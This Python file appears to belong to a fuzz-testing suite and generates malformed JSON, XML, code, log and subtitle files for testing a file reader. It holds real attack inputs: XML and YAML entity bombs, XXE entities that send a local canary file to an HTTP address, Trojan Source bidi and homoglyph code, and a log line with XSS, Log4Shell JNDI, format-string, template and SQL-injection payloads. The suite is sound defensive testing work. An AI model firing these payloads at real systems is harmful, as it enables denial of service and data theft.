"""Bad JSON, JSONL, XML, source code, logs and subtitles."""

from __future__ import annotations

from tests.fuzz.bad.base import (
    HTTP_PORT,
    Maker,
    billion_laughs,
    external_entity,
    http_canary,
    quadratic_blowup,
)


def light(maker: Maker) -> None:
    """Everything which is quick to make."""
    _json(maker)
    _xml(maker)
    _code(maker)
    _subtitles(maker)


def heavy(maker: Maker) -> None:
    """Slow or large files."""
    word = maker.word()
    maker.add(
        "data/line-50mb.json",
        f'["{word}",' + "1," * 25_000_000 + "1]",
        "long",
        "json",
        "either",
        "50 MB on one line",
        [word],
    )
    word = maker.word()
    lines = '{"a": [1, 2, 3], "b": "text"}\n' * 1_000_000
    maker.add(
        "data/lines-million.jsonl",
        f'{lines}{{"a": "{word}"}}\n',
        "many",
        "jsonl",
        "read",
        "a million lines; the word is in the last",
        [word],
    )
    word = maker.word()
    lines = "2024-05-17T10:00:00Z INFO all is well\n" * 1_000_000
    maker.add(
        "code/lines-million.log",
        f"{lines}2024-05-17T10:00:00Z ERROR {word}\n",
        "many",
        "log",
        "read",
        "a million lines; the word is in the last",
        [word],
    )


def _json(maker: Maker) -> None:
    depth = maker.rng.randint(90_000, 110_000)
    long = "9" * 500_000
    for name, text, suffix, kind, note in (
        ("arrays", f'["@",{"[" * depth}{"]" * depth}]', "json", "deep", f"{depth} lists in each other"),
        ("objects", '{"@":' + '{"a":' * depth + "1" + "}" * depth + "}", "json", "deep", f"{depth} objects in each other"),
        ("arrays-open", '["@",' + "[" * depth, "json", "deep", f"{depth} lists which never end"),
        ("keys-same", '{"a":"@",' + '"a":1,' * 50_000 + '"a":2}', "json", "duplicate", "50,000 keys of one name"),
        ("number-long", f'["@",{long}]', "json", "long", "a number of 500,000 digits (Python stops at 4,300)"),
        ("number-huge", '["@",1e999999999,-1e999999999,1e-999999999]', "json", "lie", "numbers which do not fit"),
        ("number-odd", '["@",NaN,Infinity,-Infinity,0x10,01,+1,.5,1.]', "json", "damaged", "numbers which are none"),
        ("surrogates", '["@","\\ud800","\\udc00\\ud800","\\u0000"]', "json", "encoding", "lone surrogates and zeros, escaped"),
        ("comma", '["@",]', "json", "damaged", "a comma too much"),
        ("comments", '// a\n["@" /* b */]', "json", "damaged", "comments"),
        ("quotes", "{'a': '@', b: undefined}", "json", "damaged", "JavaScript, but no JSON"),
        ("two", '{"a":"@"} {"b":1}', "json", "damaged", "two values in one file"),
        ("cut", '{"a":"@","b":["c', "json", "truncated", "cut within a word"),
        ("string", '"@"', "json", "odd", "only a string"),
        ("string-open", '["@","' + "x" * 300_000, "json", "truncated", "a string which never ends"),
        ("key-long", f'{{"@":1,"{"k" * 300_000}":1}}', "json", "long", "a key of 300 kB"),
        ("mark", '\ufeff["@"]', "json", "encoding", "a byte order mark"),
        ("controls", '["@ \x00\x01\x1f"]', "json", "encoding", "raw control characters"),
        ("prototype", '{"__proto__":{"a":1},"constructor":null,"__class__":"@"}', "json", "odd", "names with a meaning"),
        ("blanks", " \n" * 100_000 + '["@"]', "json", "long", "200 kB of blanks first"),
        ("line-bad", '{"a":1}\n{broken\n{"b":"@"}\n', "jsonl", "damaged", "a broken line between two good ones"),
        ("line-long", '{"a":"' + "x" * 500_000 + '"}\n{"b":"@"}\n', "jsonl", "long", "a line of 500 kB"),
        ("line-deep", "[" * depth + '\n{"b":"@"}\n', "jsonl", "deep", f"a line with {depth} lists"),
        ("lines-blank", "\n\r\n \n" * 1000 + '{"b":"@"}', "jsonl", "odd", "blank lines"),
        ("lines-mixed", 'null\n1\n"a"\n[]\n{"b":"@"}\n', "jsonl", "odd", "a different kind of value in each line"),
        ("line-cut", '{"b":"@"}\n{"c":"unfini', "jsonl", "truncated", "the last line is cut"),
        ("separators", '{"a":"x\u2028y\x85z"}\n{"b":"@"}\n', "jsonl", "encoding", "characters which some take for a line end"),
    ):  # fmt: skip
        word = maker.word()
        maker.add(f"data/{name}.{suffix}", text.replace("@", word), kind, suffix, "read", note, [word])
    word = maker.word()
    maker.add("data/utf16.json", f'["{word}"]'.encode("utf-16"), "encoding", "json", "read", "UTF-16", [word])


def _xml(maker: Maker) -> None:
    canary = maker.canary.as_uri()
    depth = maker.rng.randint(90_000, 110_000)
    parameters = f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{canary}"><!ENTITY % q "<!ENTITY bomb SYSTEM \'{http_canary("xml?")}%p;\'>">%q;]>'
    for name, text, kind, note in (
        ("laughs", f"{billion_laughs('a')}<a>@ &bomb;</a>", "entity", "billion laughs"),
        ("laughs-attribute", f"{billion_laughs('a')}<a b='&bomb;'>@</a>", "entity", "billion laughs in an attribute"),
        ("laughs-open", f"{billion_laughs('a', 30)}<a>@ &bomb;</a>", "entity", "ten to the thirty laughs"),
        ("quadratic", f"{quadratic_blowup('a')}<a>@ {'&bomb;' * 20_000}</a>", "entity", "an entity of 50 kB used 20,000 times"),
        ("entity-file", f"{external_entity('a', canary)}<a>@ &bomb;</a>", "entity", "an entity which is the canary file"),
        ("entity-http", f"{external_entity('a', http_canary('xml'))}<a>@ &bomb;</a>", "entity", "an entity on the web"),
        ("entity-device", f"{external_entity('a', 'file:///dev/zero')}<a>@ &bomb;</a>", "entity", "an entity which is endless zeros"),
        ("entity-self", '<!DOCTYPE a [<!ENTITY bomb "&bomb;">]><a>@ &bomb;</a>', "cyclic", "an entity which is itself"),
        ("entity-two", '<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]><a>@ &x;</a>', "cyclic", "two entities which are each other"),
        ("parameters", f"{parameters}<a>@ &bomb;</a>", "entity", "the canary is sent to an address"),
        ("dtd-http", f'<!DOCTYPE a SYSTEM "{http_canary("dtd")}"><a>@</a>', "entity", "a document type on the web"),
        ("dtd-file", f'<!DOCTYPE a SYSTEM "{canary}"><a>@</a>', "entity", "the canary as document type"),
        ("include", f'<a xmlns:xi="http://www.w3.org/2001/XInclude">@<xi:include href="{canary}" parse="text"/></a>', "active",
         "includes the canary"),
        ("include-self", '<a xmlns:xi="http://www.w3.org/2001/XInclude">@<xi:include href="include-self.xml"/></a>', "cyclic",
         "includes itself"),
        ("style", f'<?xml-stylesheet type="text/xsl" href="{http_canary("xsl")}"?><a>@</a>', "active", "a style sheet on the web"),
        ("schema", f'<a xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:noNamespaceSchemaLocation="{http_canary("xsd")}">@</a>',
         "active", "a schema on the web"),
        ("deep", f"<a>@{'<b>' * depth}{'</b>' * depth}</a>", "deep", f"{depth} elements in each other"),
        ("deep-open", f"<a>@{'<b>' * depth}", "deep", f"{depth} elements which never end"),
        ("attributes", "<a " + " ".join(f'a{n}="b"' for n in range(50_000)) + ">@</a>", "many", "50,000 attributes"),
        ("attribute-long", f'<a b="{"x" * 500_000}">@</a>', "long", "an attribute of 500 kB"),
        ("namespaces", "<a>@" + "".join(f'<b xmlns:n{n}="u{n}">' for n in range(3000)) + "</b>" * 3000 + "</a>", "deep",
         "3,000 namespaces in each other"),
        ("data-open", "<a>@<![CDATA[text", "truncated", "a data section which never ends"),
        ("comment-open", "<a>@<!-- text", "truncated", "a comment which never ends"),
        ("instruction", f"<a>@<?x {'y' * 300_000}?></a>", "long", "an instruction of 300 kB"),
        ("characters", "<a>@ \x00\x08 &#0; &#xD800; &#x110000; \ufffe</a>", "encoding", "characters which XML forbids"),
        ("encoding-unknown", '<?xml version="1.0" encoding="x-nonsense"?><a>@</a>', "encoding", "an unknown encoding"),
        ("encoding-lie", '<?xml version="1.0" encoding="utf-16"?><a>@ ä</a>', "encoding", "claims UTF-16, is UTF-8"),
        ("encoding-codec", '<?xml version="1.0" encoding="zlib"?><a>@</a>', "encoding", "an encoding which is none"),
        ("version", '<?xml version="9.9"?><a>@</a>', "odd", "XML 9.9"),
        ("roots", "<a>@</a><b/>text", "damaged", "two roots"),
        ("crossed", "<a><b>@</a></b>", "damaged", "crossed elements"),
        ("empty-root", "\n\n<?xml version='1.0'?><a>@</a>", "damaged", "blank lines before the declaration"),
    ):  # fmt: skip
        word = maker.word()
        maker.add(
            f"data/{name}.xml",
            text.replace("@", word),
            kind,
            "xml",
            "either" if kind in ("deep", "entity") else "read",
            note,
            [word],
        )


def _code(maker: Maker) -> None:
    for name, text, kind, note in (
        ("parens.py", f"# @\nx = {'(' * 100_000}1{')' * 100_000}\n", "deep", "100,000 brackets"),
        ("operators.py", f"# @\nx = {'-' * 100_000}1\n", "deep", "100,000 signs"),
        ("indents.py", "# @\n" + "".join(" " * n + "if 1:\n" for n in range(500)), "deep", "500 indents"),
        ("cookie.py", "# -*- coding: nonsense -*-\n# @\n", "encoding", "an unknown encoding is named"),
        ("cookie-lie.py", "# -*- coding: utf-16 -*-\n# @ ä\n", "encoding", "claims UTF-16"),
        ("zeros.py", "# @\nx = '\0\0'\n", "encoding", "zero bytes"),
        ("string-open.py", '# @\nx = """text\n' + "a\n" * 50_000, "truncated", "a string which never ends"),
        ("trojan.py", "# @\nif x != 'user\u202e \u2066# check\u2069 \u2066':\n    pass\n", "encoding", "code which reads in another order"),
        ("alike.py", "# @\nаdmin = аdmіn = 1\n", "encoding", "letters which look alike"),
        ("minified.js", "/*@*/" + "function a(b){return b}" * 20_000, "long", "500 kB of code on one line"),
        ("map.js.map", '{"x":"@","mappings":"' + "AAAA," * 60_000 + '"}', "long", "a map of 300 kB"),
        ("comment.c", "/* @ " + "/* " * 50_000, "truncated", "50,000 comments which never end"),
        ("macros.c", "// @\n#define A0 x\n" + "".join(f"#define A{n} A{n - 1} A{n - 1}\n" for n in range(1, 60)), "entity",
         "macros which double 60 times"),
        ("include.c", '// @\n#include "include.c"\n#include "/dev/zero"\n', "cyclic", "includes itself"),
        ("shebang.sh", "#!" + "/" * 100_000 + "\n# @\n", "long", "an interpreter of 100 kB"),
        ("laughs.yaml", "w: '@'\ne0: &e0 ha\n" + "".join(f"e{n}: &e{n} [{f'*e{n - 1},' * 9}]\n" for n in range(1, 10)), "entity",
         "billion laughs in YAML"),
        ("deep.yaml", "w: '@'\nx: " + "[" * 50_000 + "\n", "deep", "50,000 lists in YAML"),
        ("deep.toml", 'w = "@"\nx = ' + "[" * 50_000 + "\n", "deep", "50,000 lists in TOML"),
        ("escapes.log", "\x1b[31m@\x1b[0m \x1b[2J\r\b\b\b\n", "encoding", "terminal escapes"),
        ("zeros.log", "one @\n" + "\0" * 300_000 + "\ntwo\n", "damaged", "300 kB of zeros in the middle, as after a crash"),
        ("line.log", "@ " + "x" * 500_000 + "\n", "long", "a line of 500 kB"),
        ("same.log", "@\n" + "the same line\n" * 30_000, "many", "30,000 equal lines"),
        ("dates.log", "@ 0000-00-00 9999-99-99T99:99:99+99:99 1e999 -1 292277026597\n", "lie", "impossible dates"),
        ("inject.log", f"@ <script>alert(1)</script> ${{jndi:ldap://127.0.0.1:{HTTP_PORT}/a}} %s%n {{{{7*7}}}} '; DROP TABLE a; --\n", "active",
         "attempts at programs"),
        ("progress.log", "@ " + "".join(f"\r{n}%" for n in range(50_000)) + "\n", "long", "a progress bar on one line"),
    ):  # fmt: skip
        word = maker.word()
        maker.add(f"code/{name}", text.replace("@", word), kind, name.rsplit(".", 1)[1], "read", note, [word])


def _subtitles(maker: Maker) -> None:
    cue = "{0}\n00:00:{1:02d},000 --> 00:00:{2:02d},000\n{3}\n\n"
    for name, text, suffix, kind, note in (
        ("times-bad", "1\n99:99:99,999 --> 00:00:00,000\n@\n\n", "srt", "lie", "ends before it begins, at an impossible time"),
        ("times-huge", "1\n999999999999:00:00,000 --> 9999999999999:00:00,000\n@\n\n", "srt", "lie", "a thousand million hours"),
        ("times-negative", "1\n-00:00:01,000 --> 00:00:-2,000\n@\n\n", "srt", "lie", "negative times"),
        ("times-nonsense", "1\naa:bb:cc --> dd\n@\n\n", "srt", "damaged", "times which are none"),
        ("times-same", "".join(cue.format(n, 1, 2, "text") for n in range(5000)) + "1\n00:00:01,000 --> 00:00:02,000\n@\n", "srt", "many",
         "5,000 lines at once"),
        ("numbers", "\n\n00:00:01,000 --> 00:00:02,000\n@\n\n-7\n00:00:03,000 --> 00:00:04,000\ntext\n", "srt", "damaged",
         "numbers are missing"),
        ("no-blank", "1\n00:00:01,000 --> 00:00:02,000\n@\n2\n00:00:03,000 --> 00:00:04,000\ntext\n", "srt", "damaged", "no blank lines"),
        ("cue-long", "1\n00:00:01,000 --> 00:00:02,000\n@ " + "x" * 500_000 + "\n", "srt", "long", "a line of 500 kB"),
        ("tags", "1\n00:00:01,000 --> 00:00:02,000\n@ " + "<i><b>" * 50_000 + "\n", "srt", "deep", "100,000 tags"),
        ("cut", "1\n00:00:01,000 --> 00:00:02,000\n@\n\n2\n00:00:03,0", "srt", "truncated", "cut within a time"),
        ("text-only", "@ text without any times\n", "srt", "damaged", "no times at all"),
        ("arrows", "--> " * 100_000 + "\n@\n", "srt", "slow", "100,000 arrows"),
        ("no-header", "00:01.000 --> 00:02.000\n@\n", "vtt", "damaged", "the header is missing"),
        ("note-open", "WEBVTT\n\n00:01.000 --> 00:02.000\n@\n\nNOTE\n" + "text\n" * 100_000, "vtt", "long", "a long note"),
        ("style", f"WEBVTT\n\nSTYLE\n::cue {{ background: url({http_canary('vtt')}) }}\n\n00:01.000 --> 00:02.000\n@\n", "vtt", "active",
         "a style with an address"),
        ("settings", "WEBVTT\n\n00:01.000 --> 00:02.000 " + "line:-999999999% " * 10_000 + "\n@\n", "vtt", "long", "10,000 settings"),
        ("voices", "WEBVTT\n\n00:01.000 --> 00:02.000\n<v " + "x" * 200_000 + ">@\n", "vtt", "long", "a speaker's name of 200 kB"),
        ("stamps", "WEBVTT\nX-TIMESTAMP-MAP=MPEGTS:99999999999999999999,LOCAL:-1\n\n00:01.000 --> 00:02.000\n@ <99:99:99.999>\n", "vtt",
         "lie", "impossible stamps"),
    ):  # fmt: skip
        word = maker.word()
        maker.add(f"subtitles/{name}.{suffix}", text.replace("@", word), kind, suffix, "read", note, [word])
    word = maker.word()
    maker.add(
        "subtitles/utf16.srt",
        cue.format(1, 1, 2, word).encode("utf-16"),
        "encoding",
        "srt",
        "read",
        "UTF-16",
        [word],
    )
    maker.add("subtitles/header-only.vtt", "WEBVTT\n", "empty", "vtt", "either", "only the header")
